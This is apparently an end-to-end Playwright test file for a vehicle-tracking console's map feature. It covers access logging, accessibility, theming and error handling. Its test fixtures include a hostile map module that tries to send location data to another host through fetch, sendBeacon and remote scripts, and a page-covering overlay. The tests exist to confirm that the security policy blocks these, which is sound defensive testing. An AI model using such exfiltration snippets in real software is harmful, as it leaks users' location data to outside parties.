package dev.breakwater.endtoend;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.microsoft.playwright.options.AriaRole;
import dev.breakwater.console.Role;
import dev.breakwater.endtoend.ConsoleSite.View;
import dev.breakwater.wire.Item;
import dev.breakwater.wire.Signal;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/** A map of the operator's beside the track: the one of the documentation, and worse ones. */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class MapWalk {
  private static final int MOST_TRIES = 120;

  private static ConsoleSite site;
  private static StoreAndLog told;
  private static String vehicle;
  private static int shown;

  @BeforeAll
  static void deliver() throws Exception {
    site = ConsoleSite.shared();
    told = new StoreAndLog(site.data);
    var car = new HostileCar(site.data);
    car.deliver();
    vehicle = car.vehicle.value();
    Page page = site.open(Role.OPERATOR, View.USUAL, "account");
    for (int tries = 1; !isStored(page); tries++) {
      assertThat(tries).isLessThan(MOST_TRIES);
      TimeUnit.MILLISECONDS.sleep(500);
    }
    page.context().close();
  }

  /** Four halves of two places. */
  private static boolean isStored(Page page) {
    page.navigate(site.address("/?" + shown++ + "#/vehicle/" + vehicle));
    page.waitForSelector("main h1, main .notice.bad");
    return page.locator("main").innerText().matches("(?s).*position\\.coarse\\s+4\\b.*");
  }

  @AfterEach
  void restore() throws IOException {
    ConsoleSite.writeMap(site.data, ConsoleSite.documentedMap());
    List<String> found = List.copyOf(site.complaints);
    site.complaints.clear();
    assertThat(found).isEmpty();
  }

  private static Page opened(View view) {
    Page page = site.open(Role.OPERATOR, view, "vehicle/" + vehicle);
    page.locator(".filters button").click();
    page.waitForSelector(".track path");
    return page;
  }

  private static Locator button(Page page) {
    return page.locator("h3 + div > p > button");
  }

  private static void mapIsDrawn(Page page) {
    button(page).click();
    page.waitForSelector(".map rect");
  }

  /** The first: a second look within the hour is no entry of its own. */
  @Test
  @Order(1)
  void map_getsTheCellsOfTheStore_whenItIsAskedFor_andTheLogHasWho() throws Exception {
    Page page = opened(View.USUAL);
    String who = ConsoleSite.name(Role.OPERATOR) + " as OPERATOR places/" + vehicle;
    assertThat(page.content()).doesNotContain("31.2").doesNotContain("120.1");
    assertThat(told.statements("READ")).doesNotContain(who);

    Response given = page.waitForResponse("**/places?*", () -> mapIsDrawn(page));

    List<String> places = new ArrayList<>();
    for (JsonNode each : new ObjectMapper().readTree(given.body()).path("points")) {
      places.add(each.path("latitude").asText());
      places.add(each.path("longitude").asText());
    }
    assertThat(places).isEqualTo(stored());
    assertThat(page.locator(".map rect").count()).isEqualTo(places.size() / 2);
    assertThat(page.locator(".map figcaption").innerText())
        .isEqualTo("Map review number (审图号): " + ConsoleSite.REVIEW_NUMBER);
    assertThat(told.statements("READ")).contains(who);
    page.context().close();
  }

  /** Returns latitude and longitude in turn, as the car sealed them. */
  private static List<String> stored() throws Exception {
    List<String> halves = new ArrayList<>();
    for (Item each : told.items("position.coarse", vehicle)) {
      halves.add(Signal.decode(each.payload()).value());
    }
    assertThat(halves).hasSize(4);
    return halves;
  }

  @Test
  void map_inEveryView_fits_andHasNoSeriousViolationOfAccessibility() throws IOException {
    for (View view : View.all()) {
      Page page = opened(view);
      mapIsDrawn(page);
      String light = view.dark() ? "dark" : "light";
      assertThat(page.locator(".map image").getAttribute("href")).contains("land-" + light);
      assertThat(page.locator(".map figcaption").innerText()).contains(ConsoleSite.REVIEW_NUMBER);
      page.locator("details summary").last().click();
      assertThat(page.locator("details table tbody tr").count()).isEqualTo(2);
      ConsoleSite.picture(page, "map-%s-%s-%d".formatted(view.language(), light, view.width()));
      assertThat(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
          .as("%s scrolls sideways", view)
          .isEqualTo(true);
      page.evaluate(ConsoleSecurityWalk.axe());
      assertThat(ConsoleSecurityWalk.violations(page, view.toString())).isEmpty();
      page.context().close();
    }
  }

  @Test
  void light_thatChanges_drawsTheMapAnew() {
    Page page = opened(View.USUAL);
    mapIsDrawn(page);
    page.locator("header select").last().selectOption("dark");
    page.waitForSelector(".map image[href*='land-dark']");
    assertThat(page.locator(".map").count()).isEqualTo(1);
    page.context().close();
  }

  @Test
  void module_thatFails_isToldOf_andTheGridStays() throws Exception {
    var failing =
        List.of(
            "export function draw() { throw new Error('no tiles'); }",
            "export async function draw() { throw 'no tiles'; }",
            "export const plan = 1;",
            "export function draw( {",
            "export const draw = () => new Promise(() => {});");
    var reasons = List.of("no tiles.", "no tiles.", "no function draw", "", "after 20 seconds");
    for (int i = 0; i < failing.size(); i++) {
      ConsoleSite.writeMap(site.data, failing.get(i));
      Page page = opened(View.USUAL);
      button(page).click();
      Locator notice = page.locator(".notice.bad");
      notice.waitFor();
      assertThat(notice.innerText())
          .startsWith("The map could not be drawn: ")
          .contains(reasons.get(i))
          .endsWith("The track is on the grid above.");
      assertThat(page.locator(".map").count()).isZero();
      assertThat(page.locator(".track path").isVisible()).isTrue();
      assertThat(button(page).isEnabled()).isTrue();
      ConsoleSite.picture(page, "map-failed");
      page.context().close();
    }
  }

  @Test
  void module_thatAsksAnotherHost_isStoppedByThePolicy() throws Exception {
    try (var elsewhere = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      String host = "https://localhost:" + elsewhere.getLocalPort();
      ConsoleSite.writeMap(
          site.data,
          """
          const host = '%s';
          export async function draw(element, { points }) {
            const image = new Image();
            image.src = `${host}/?${points[0].latitude}`;
            const script = document.createElement('script');
            script.src = `${host}/a.js`;
            const inline = document.createElement('script');
            inline.textContent = 'window.struck = 1';
            const style = document.createElement('link');
            Object.assign(style, { rel: 'stylesheet', href: `${host}/a.css` });
            element.append(image, script, inline, style);
            await import(`${host}/b.js`).catch(() => {});
            navigator.sendBeacon(host, 'x');
            await fetch(host, { method: 'POST', body: JSON.stringify(points) });
          }
          """
              .formatted(host));
      Page page = opened(View.USUAL);
      button(page).click();
      page.locator(".notice.bad").waitFor();
      assertThat(page.locator(".track path").isVisible()).isTrue();
      assertThat(page.evaluate("window.struck === undefined")).isEqualTo(true);
      elsewhere.setSoTimeout(1000);
      assertThatThrownBy(elsewhere::accept).isInstanceOf(SocketTimeoutException.class);
      page.context().close();
      assertThat(site.complaints).anyMatch(each -> each.contains("Content Security Policy"));
      site.complaints.removeIf(
          each -> each.contains(host) || each.contains("Content Security Policy"));
    }
  }

  @Test
  void module_thatPaintsEverywhere_leavesItsNumberToBeRead_andIsToldWhenNobodyLooks()
      throws Exception {
    ConsoleSite.writeMap(
        site.data,
        """
        export function draw(element, { signal }) {
          const over = document.createElement('div');
          Object.assign(over.style, { position: 'fixed', inset: '-9999px', zIndex: '9999', background: 'red' });
          element.append(over);
          signal.addEventListener('abort', () => { document.body.id = 'left'; });
        }
        """);
    Page page = opened(View.USUAL);
    button(page).click();
    Locator number = page.locator(".map figcaption");
    number.waitFor();
    number.scrollIntoViewIfNeeded();
    String isOnTop =
        "number => { const at = number.getBoundingClientRect();"
            + " return document.elementFromPoint(at.x + 20, at.y + at.height / 2) === number; }";
    assertThat(number.evaluate(isOnTop)).isEqualTo(true);
    assertThat(page.locator("#left").count()).isZero();
    page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("All vehicles")).click();
    page.locator("#left").waitFor();
    page.context().close();
  }
}
